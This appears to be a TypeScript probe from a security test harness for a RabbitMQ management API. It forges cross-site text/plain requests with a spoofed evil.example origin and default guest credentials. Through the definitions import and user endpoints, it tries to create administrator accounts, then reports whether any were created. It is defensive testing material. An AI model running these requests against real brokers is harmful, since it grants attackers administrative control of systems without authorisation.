/**
 * Probe 7: cross-site requests. A page on another origin can make a browser send a POST with `text/plain` and any
 * body (no CORS preflight), carrying the browser's cached Basic credentials for the broker. The probe sends what
 * such a page would (Origin: http://evil.example, Content-Type: text/plain, a JSON-looking body, guest's
 * credentials) and checks whether an administrator came into being:
 *   a. POST /api/definitions with a users list (a plain HTML form can do this one);
 *   b. PUT /api/users/{name} (fetch with mode no-cors cannot send PUT without a preflight; measured anyway).
 */
import { request } from './http';
import type { Probe, ProbeContext, ProbeOutcome } from './types';

const EVIL = { origin: 'http://evil.example', referer: 'http://evil.example/page', 'content-type': 'text/plain' };

async function userIsAdmin(ctx: ProbeContext, name: string): Promise<boolean> {
  const u = (await ctx.api().json(`/api/users/${encodeURIComponent(name)}`)) as { tags?: unknown } | undefined;
  if (u === undefined) return false;
  const tags = Array.isArray(u.tags) ? u.tags : String(u.tags ?? '').split(',');
  return tags.includes('administrator');
}

export const csrfProbe: Probe = {
  id: 7,
  name: 'cross-site request (CSRF)',
  rabbitmq: false,
  budgetS: 20,
  async run(ctx): Promise<ProbeOutcome> {
    const base = ctx.target.httpBase;
    const auth = { user: 'guest', password: 'guest' };
    const defs = { users: [{ name: 'csrf-defs', password: 'x', tags: 'administrator' }], permissions: [] };
    const post = await request(base, 'POST', '/api/definitions', { ...auth, body: JSON.stringify(defs), headers: EVIL });
    const viaDefinitions = await userIsAdmin(ctx, 'csrf-defs');
    const put = await request(base, 'PUT', '/api/users/csrf-put', {
      ...auth,
      body: JSON.stringify({ password: 'x', tags: 'administrator' }),
      headers: EVIL,
    });
    const viaPut = await userIsAdmin(ctx, 'csrf-put');
    const created = [viaDefinitions, viaPut].filter(Boolean).length;
    return {
      figure: `text/plain POST /api/definitions: HTTP ${post.status}, admin ${viaDefinitions ? 'CREATED' : 'not created'}; text/plain PUT /api/users: HTTP ${put.status}, admin ${viaPut ? 'CREATED' : 'not created'}`,
      verdict: created > 0 ? `${created}/2 admins created` : 'no admin created',
      details: {
        postDefinitions: { status: post.status, body: post.body.slice(0, 200), adminCreated: viaDefinitions },
        putUser: { status: put.status, body: put.body.slice(0, 200), adminCreated: viaPut },
      },
    };
  },
};
